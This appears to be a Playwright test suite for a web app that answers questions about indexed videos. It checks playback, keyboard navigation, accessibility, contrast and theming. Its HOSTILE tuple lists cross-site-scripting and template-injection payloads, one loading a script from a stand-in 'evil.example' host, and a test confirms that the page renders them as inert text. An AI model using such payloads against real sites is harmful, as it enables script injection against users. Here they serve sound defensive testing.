"""The page in Chromium: asking, playing, keyboard, small screens, names and contrasts, and a malicious index."""

from __future__ import annotations

import os
import re
import shutil
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.helpers.fake_vlm import fake_model
from tests.helpers.movies import block_movie
from tests.helpers.serving import Running, index_with_movie, make_service, playable_movie, running

CHROMIUM = os.environ.get("CHUNKV2L_CHROMIUM") or shutil.which("chromium") or shutil.which("chromium-browser") or ""
sync_api = pytest.importorskip("playwright.sync_api")
pytestmark = [pytest.mark.browser, pytest.mark.skipif(not CHROMIUM, reason="no Chromium on the PATH")]

ARGUMENTS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update"]
WHEN, WHAT = "When does a dog run?", "What is on the grass?"
HOSTILE = (
    "<img src=x onerror=\"document.title='hacked'\">",
    "<script>document.title='hacked'</script>",
    '"><svg onload="document.title=\'hacked\'">',
    "{{ 7 * 7 }} {% raw %} ${7 * 7}",
    "</title><script src=//evil.example/x.js></script>",
    "javascript:document.title='hacked'",
)


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with sync_api.sync_playwright() as playwright:
        opened = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGUMENTS)
        yield opened
        opened.close()


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    """A playable movie, one that browsers don't play, one whose index is hostile, and one without an index."""
    folder = tmp_path_factory.mktemp("site")
    cues = [(0.5, 3.0, "We begin."), (3.0, 4.0, "A dog!")]
    chapters, similar = [(0, 2), (3, 5)], [(0, 3, 0.9)]
    index_with_movie(folder, "plays", maker=playable_movie, subtitles=cues, chapters=chapters, similar=similar)
    index_with_movie(folder, "old")  # MPEG-4 part 2
    index_with_movie(
        folder, "evil <b>", captions=list(HOSTILE), subtitles=[(0.0, 2.0, HOSTILE[0])], speech={0: HOSTILE[1]}
    )
    (folder / "new.mp4").write_bytes((folder / "plays.mp4").read_bytes())
    with running(make_service(folder)) as started:
        with started.client() as client:
            for movie in client.get("/api/movies").json():
                client.get(f"/api/movies/{movie['id']}")
        yield started


class Visit:
    """A page that is visited, with what it asked for and complained about.

    Attributes:
        requests: addresses.
        complaints: errors of its scripts, and violations of its Content-Security-Policy.
    """

    def __init__(self, browser: Any, site: Running, theme: str = "light", width: int = 1280) -> None:
        self.context = browser.new_context(
            viewport={"width": width, "height": 800}, color_scheme=theme, base_url=site.url, has_touch=width < 500
        )
        self.page = self.context.new_page()
        self.requests: list[str] = []
        self.complaints: list[str] = []
        self.page.on("request", lambda request: self.requests.append(request.url))
        self.page.on("pageerror", lambda error: self.complaints.append(str(error)))
        self.page.on("console", self._note)
        self.site = site

    def _note(self, message: Any) -> None:
        if message.type == "error" and "Content Security Policy" in message.text:
            self.complaints.append(message.text)

    def open(self, name: str, query: str = "") -> Any:
        """Go to a movie's page; returns the page once the movie is shown."""
        with self.site.client() as client:
            movies = client.get("/api/movies").json()
        (movie,) = (movie for movie in movies if movie["name"].startswith(name))
        self.page.goto(f"/movie/{movie['id']}{query}")
        self.page.wait_for_selector(".segment")
        return self.page

    def ask(self, question: str) -> Any:
        """Ask, and wait for the answer."""
        self.page.fill("#question", question)
        self.page.click("#ask button[type=submit]")
        return self.wait()

    def wait(self) -> Any:
        """Wait until the answer is whole; returns its section."""
        self.page.wait_for_selector("#answer:not([hidden]):not([aria-busy]) .quiet", state="attached")
        return self.page.locator("#answer")


@pytest.fixture
def visit(browser: Any, site: Running) -> Iterator[Visit]:
    visited = Visit(browser, site)
    yield visited
    assert visited.complaints == []
    assert [url for url in visited.requests if not url.startswith(site.url)] == []
    visited.context.close()


def time_of(page: Any) -> float:
    seconds: float = page.evaluate("document.querySelector('video').currentTime")
    return seconds


def wait_until(page: Any, expression: str) -> None:
    """Wait until an expression of JavaScript is true: the page's policy lets Playwright's own waiting evaluate none."""
    deadline = time.monotonic() + 30
    while not page.evaluate(expression):
        assert time.monotonic() < deadline, expression
        page.wait_for_timeout(50)


def wait_for_time(page: Any, seconds: float) -> None:
    wait_until(page, f"Math.abs(document.querySelector('video').currentTime - {seconds}) < 0.05")


def spans(site: Running, page: Any, question: str) -> list[dict[str, Any]]:
    with site.client() as client:
        movie_id = page.url.split("/movie/")[1].split("?")[0]
        answer = client.post(f"/api/movies/{movie_id}/ask", json={"question": question}).json()
    found: list[dict[str, Any]] = answer["spans"]
    return found


def test_movies_are_listed_and_lead_to_their_pages(visit: Visit) -> None:
    page = visit.page
    page.goto("/")
    page.wait_for_selector(".card")
    assert page.locator("#count").inner_text() == "4 movies"
    card = page.locator(".card", has_text="plays.mp4")
    assert "6 segments" in card.inner_text()
    assert "2 chapters" in card.inner_text()
    assert card.locator(".length").inner_text() == "0:12"
    assert "No index yet" in page.locator(".card", has_text="new.mp4").inner_text()
    card.locator("a").click()
    page.wait_for_selector(".segment")
    assert page.title() == "plays.mp4 – chunkv2l"
    assert page.locator(".segment").count() == 6
    assert page.locator(".chapter").count() == 2


def test_all_movies_are_asked_and_moments_lead_to_their_pages(visit: Visit) -> None:
    page = visit.page
    page.goto("/")
    page.wait_for_selector("#ask:not([hidden])")
    answer = visit.ask(WHEN)
    chips = answer.locator("a.chip")
    assert chips.count() >= 5 and "in any of these movies" in answer.inner_text()
    name, href = chips.first.locator(".name").inner_text(), chips.first.get_attribute("href")
    assert f"Moment 1: {name}, " in chips.first.get_attribute("aria-label")
    page.reload()  # the question is in the address
    assert visit.wait().locator("a.chip").first.get_attribute("href") == href
    chips.first.click()
    page.wait_for_selector(".segment")
    assert page.title() == f"{name} – chunkv2l" and page.input_value("#question") == WHEN


def test_an_answer_stands_at_its_moment_and_plays(visit: Visit) -> None:
    page = visit.open("plays")
    answer = visit.ask(WHAT)
    expected = spans(visit.site, page, WHAT)
    assert answer.locator(".moment").count() == len(expected)
    assert answer.locator(".asked").inner_text() == WHAT
    assert answer.locator(".absent").inner_text().startswith("Probably not in this movie")  # the fake model is unsure
    answer.locator(".moment button").first.click()
    wait_until(page, "!document.querySelector('video').paused && document.querySelector('video').currentTime > 0")
    start, end = expected[0]["start"], expected[0]["end"]
    assert start <= time_of(page) < end
    slider = page.get_by_role("slider", name="Position in the movie")
    wait_until(page, "Number(document.querySelector('.track').getAttribute('aria-valuenow')) >= 0")
    assert start <= float(slider.get_attribute("aria-valuenow") or -1) <= end
    assert page.locator(".rank").count() >= 1
    assert page.locator(".scores, .chosen").first.get_attribute("d")
    assert answer.locator(".moment button").first.get_attribute("aria-pressed") == "true"
    wait_until(page, "document.querySelector('video').paused")  # at the moment's end
    assert time_of(page) >= min(end, 11.5) - 0.3


def test_subtitles_are_a_track_of_the_player(visit: Visit) -> None:
    page = visit.open("plays")
    wait_until(page, "document.querySelector('video').textTracks[0]?.cues?.length === 2")
    texts = page.evaluate("[...document.querySelector('video').textTracks[0].cues].map(cue => cue.text)")
    assert texts == ["We begin.", "A dog!"]


def test_chapters_and_places_are_said_in_words(visit: Visit) -> None:
    page = visit.open("plays")
    assert page.locator(".segments .badge").all_inner_texts() == ["Chapter 1, place 1", "Chapter 2, place 1"]
    box = page.locator(".track").bounding_box()
    assert box is not None
    page.mouse.move(box["x"] + box["width"] * 0.6, box["y"] + 30)
    assert "0:06.0 – 0:08.0 · chapter 2, place 1" in page.locator(".peek").inner_text()
    assert "a dog 3" in page.locator(".peek").inner_text()


def test_a_link_holds_question_and_time(visit: Visit) -> None:
    page = visit.open("plays", "?q=What+is+on+the+grass%3F&t=5.5")
    answer = visit.wait()
    assert answer.locator(".asked").inner_text() == WHAT
    assert page.locator("#question").input_value() == WHAT
    wait_for_time(page, 5.5)
    page.locator(".segment").nth(2).click()
    page.wait_for_url(re.compile(r"q=What\+is\+on\+the\+grass%3F&t=4\.0$"))
    visit.ask("What is red?")
    page.wait_for_url(re.compile(r"q=What\+is\+red%3F"))
    page.go_back()
    wait_until(page, f"document.querySelector('.asked').textContent === {WHAT!r}")


def test_a_follow_up_is_about_the_same_moments(visit: Visit) -> None:
    page = visit.open("plays")
    visit.ask(WHAT)
    page.get_by_label("Same moments, as a follow-up").check()
    answer = visit.ask("What runs?")
    assert answer.locator(".asked").inner_text() == "What runs? (about the same moments)"
    assert "Policy follow-up" in answer.inner_text()
    assert "q=What+is+on" in page.url


def test_policies_and_how_it_was_found(visit: Visit) -> None:
    page = visit.open("plays")
    page.locator(".options summary").click()
    page.select_option("#policy", "window")
    answer = visit.ask(WHAT)
    assert "Policy window" in answer.inner_text()
    assert "policy=window" in page.url
    answer.get_by_text("How it was found").click()
    assert answer.locator("tbody tr").count() == 6
    assert "6 of 6 segments scored" in answer.locator("caption").inner_text()


def test_errors_are_sentences(visit: Visit) -> None:
    page = visit.open("plays")
    page.fill("#question", "When?")
    page.press("#question", "Enter")
    alert = page.get_by_role("alert")
    alert.wait_for()
    assert '"When?" names nothing to look for' in alert.inner_text()
    assert page.goto("/movie/<b>none").status == 404
    assert 'There is no movie "<b>none" here' in page.get_by_role("alert").inner_text()
    page.get_by_role("link", name="All movies").click()
    page.wait_for_selector(".card")


@pytest.mark.parametrize("question", [WHAT, HOSTILE[0]])
def test_what_an_index_says_stays_text(visit: Visit, question: str) -> None:
    page = visit.open("evil")
    visit.ask(question)
    captions = page.locator(".segment .caption").all_inner_texts()
    assert [caption for caption in captions if not caption.startswith("“")] == list(HOSTILE)
    box = page.locator(".track").bounding_box()
    assert box is not None
    page.mouse.move(box["x"] + 5, box["y"] + 30)
    assert HOSTILE[0] in page.locator(".peek").inner_text()
    page.wait_for_timeout(300)
    assert page.title() == "evil <b>.mp4 – chunkv2l"
    assert page.locator("main script, main svg[onload], main img[onerror]").count() == 0
    page.goto("/")
    page.wait_for_selector(".card")
    assert page.locator(".card h2", has_text="evil <b>.mp4").count() == 1


def test_everything_works_by_keyboard(visit: Visit) -> None:
    page = visit.open("plays")
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.textContent") == "Skip to the question"
    page.keyboard.press("/")
    assert page.evaluate("document.activeElement.id") == "question"
    page.keyboard.type(WHEN)
    page.keyboard.press("Enter")
    visit.wait()
    expected = spans(visit.site, page, WHEN)
    assert len(expected) > 1
    page.keyboard.press("Escape")
    for number in (0, 1):
        page.keyboard.press("ArrowRight")
        wait_for_time(page, expected[number]["start"])
        assert page.locator(".moment button").nth(number).get_attribute("aria-pressed") == "true"
    page.keyboard.press("ArrowLeft")
    wait_for_time(page, expected[0]["start"])
    page.keyboard.press(" ")
    wait_until(page, "!document.querySelector('video').paused")
    page.keyboard.press(" ")
    wait_until(page, "document.querySelector('video').paused")
    page.locator(".track").focus()
    page.keyboard.press("Home")
    wait_for_time(page, 0)
    page.keyboard.press("ArrowRight")
    wait_for_time(page, 5)
    assert page.locator(".track").get_attribute("aria-valuetext") == "0:05 of 0:12, segment 2: a dog 2"


def test_the_focus_goes_in_the_order_of_reading(visit: Visit) -> None:
    page = visit.open("plays")
    visit.ask(WHEN)
    page.evaluate("document.activeElement.blur(); window.scrollTo(0, 0)")
    page.locator(".skip").focus()
    tops: list[str] = []
    for _ in range(12):
        page.keyboard.press("Tab")
        tops.append(
            page.evaluate("document.activeElement.closest('header, .stage, .talk, .segments')?.className || ''")
        )
    order = [name for number, name in enumerate(tops) if number == 0 or tops[number - 1] != name]
    assert order == ["bar", "stage", "talk"]


def test_a_movie_that_isnt_played_is_shown_in_pictures_and_clips(visit: Visit) -> None:
    page = visit.open("old")
    page.wait_for_selector("#unplayable:not([hidden])")
    assert "can’t play this movie" in page.locator("#unplayable").inner_text()
    assert page.locator("#still").is_visible()
    page.locator(".segment").nth(3).click()
    assert str(page.locator("#still").get_attribute("src")).endswith("/thumbnail/3")
    answer = visit.ask(WHEN)
    answer.locator(".moment button").first.click()
    wait_until(page, "document.querySelector('video').currentTime > 0")  # a clip that was encoded for it
    assert "/clip?" in str(page.locator("video").get_attribute("src"))


# ---- screens and readers


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_small_screens_need_no_scrolling_sideways(browser: Any, site: Running, theme: str) -> None:
    visit = Visit(browser, site, theme, width=360)
    visit.page.goto("/")
    visit.page.wait_for_selector(".card")
    assert visit.page.evaluate("document.documentElement.scrollWidth") <= 360
    page = visit.open("plays")
    visit.ask(WHAT).get_by_text("How it was found").click()
    assert page.evaluate("document.documentElement.scrollWidth") <= 360
    small = page.evaluate(
        "[...document.querySelectorAll('button, a.button, select, input[type=search]')]"
        ".filter(e => e.checkVisibility() && e.getBoundingClientRect().height < 36).map(e => e.outerHTML)"
    )
    assert small == []
    visit.context.close()


CONTROLS = {"button", "link", "textbox", "searchbox", "combobox", "slider", "radio", "checkbox", "spinbutton", "img"}


def test_every_control_has_a_name(visit: Visit) -> None:
    for path in ("list", "movie"):
        if path == "list":
            visit.page.goto("/")
            visit.page.wait_for_selector(".card")
        else:
            visit.open("plays")
            visit.ask(WHAT).get_by_text("How it was found").click()
            visit.page.locator(".options summary").click()
        session = visit.context.new_cdp_session(visit.page)
        nodes = session.send("Accessibility.getFullAXTree")["nodes"]
        named = [
            (node["role"]["value"], node.get("name", {}).get("value", ""))
            for node in nodes
            if not node["ignored"] and node["role"]["value"] in CONTROLS
        ]
        assert len(named) > (3 if path == "list" else 20)
        assert [role for role, name in named if not name.strip()] == []
        headings = [node for node in nodes if node.get("role", {}).get("value") == "heading"]
        assert headings
        assert visit.page.evaluate("document.documentElement.lang") == "en"


CONTRASTS = """() => {
  const parse = (text) => {
    const [r, g, b, a = 1] = text.match(/[\\d.]+/g).map(Number);
    return { r, g, b, a };
  };
  const over = (top, below) => Object.fromEntries(
    ["r", "g", "b"].map((c) => [c, top[c] * top.a + below[c] * (1 - top.a)]).concat([["a", 1]]));
  const ground = (element) => {
    if (!element) return { r: 255, g: 255, b: 255, a: 1 };
    const colour = parse(getComputedStyle(element).backgroundColor);
    return colour.a === 1 ? colour : over(colour, ground(element.parentElement));
  };
  const light = ({ r, g, b }) => [r, g, b].map((value) => value / 255)
    .map((value) => (value <= 0.04045 ? value / 12.92 : ((value + 0.055) / 1.055) ** 2.4))
    .reduce((sum, value, i) => sum + value * [0.2126, 0.7152, 0.0722][i], 0);
  const low = [];
  let count = 0;
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (walker.nextNode()) {
    const element = walker.currentNode.parentElement;
    const isShown = element.checkVisibility() && !element.matches("script, option, .skip");
    if (!walker.currentNode.data.trim() || !isShown) continue;
    const style = getComputedStyle(element);
    const below = ground(element);
    const [a, b] = [light(over(parse(style.color), below)), light(below)];
    const ratio = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
    const size = parseFloat(style.fontSize);
    const isLarge = size >= 24 || (size >= 18.66 && style.fontWeight >= 700);
    count += 1;
    if (ratio < (isLarge ? 3 : 4.5)) low.push(`${walker.currentNode.data.trim().slice(0, 40)}: ${ratio.toFixed(2)}`);
  }
  return { low, count };
}"""


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_texts_contrast_with_their_ground(browser: Any, site: Running, theme: str) -> None:
    visit = Visit(browser, site, theme)
    visit.page.goto("/")
    visit.page.wait_for_selector(".card")
    assert visit.page.evaluate("document.documentElement.dataset.theme") == theme
    listed = visit.page.evaluate(CONTRASTS)
    visit.open("plays")
    visit.ask(WHAT).get_by_text("How it was found").click()
    visit.page.locator(".moment button").first.click()
    shown = visit.page.evaluate(CONTRASTS)
    visit.page.fill("#question", "When?")
    visit.page.press("#question", "Enter")
    visit.page.get_by_role("alert").wait_for()
    failed = visit.page.evaluate(CONTRASTS)
    assert (listed["low"], shown["low"], failed["low"]) == ([], [], [])
    assert listed["count"] > 8
    assert shown["count"] > 60
    visit.context.close()


def test_the_theme_can_be_chosen_and_stays(visit: Visit) -> None:
    page = visit.page
    page.goto("/")
    page.get_by_role("button", name="Dark theme").click()
    assert page.evaluate("document.documentElement.dataset.theme") == "dark"
    visit.open("plays")
    assert page.evaluate("document.documentElement.dataset.theme") == "dark"
    page.get_by_role("button", name="Light theme").click()
    assert page.evaluate("document.documentElement.dataset.theme") == "light"


def test_a_build_is_begun_watched_and_cancelled(browser: Any, tmp_path: Path) -> None:
    block_movie(tmp_path / "new.mp4", (2.0,) * 80)
    model = fake_model(delay=0.25)  # a minute, however slow the page is
    with running(make_service(tmp_path, model=model)) as site:
        page = Visit(browser, site).page
        page.goto("/")
        page.get_by_role("button", name="Build index of new.mp4").click()
        page.get_by_text(re.compile(r"\d+ %, \d+ segments, \d:\d\d left")).wait_for(timeout=60_000)
        page.reload()  # whoever comes later sees it, too
        page.get_by_role("button", name="Cancel").click()
        model.vlm.delay = 0.0
        page.get_by_role("button", name="Go on building of new.mp4").click(timeout=60_000)
        page.locator(".card a", has_text="new.mp4").click(timeout=120_000)
        page.wait_for_selector(".segment")
        page.context.close()


def test_a_server_that_only_reads_offers_no_builds(browser: Any, tmp_path: Path) -> None:
    block_movie(tmp_path / "new.mp4", (1.0,))
    with running(make_service(tmp_path, read_only=True)) as site:
        page = Visit(browser, site).page
        page.goto("/")
        page.get_by_text("No index yet").wait_for()
        assert page.get_by_role("button", name=re.compile("Build")).count() == 0
        page.context.close()
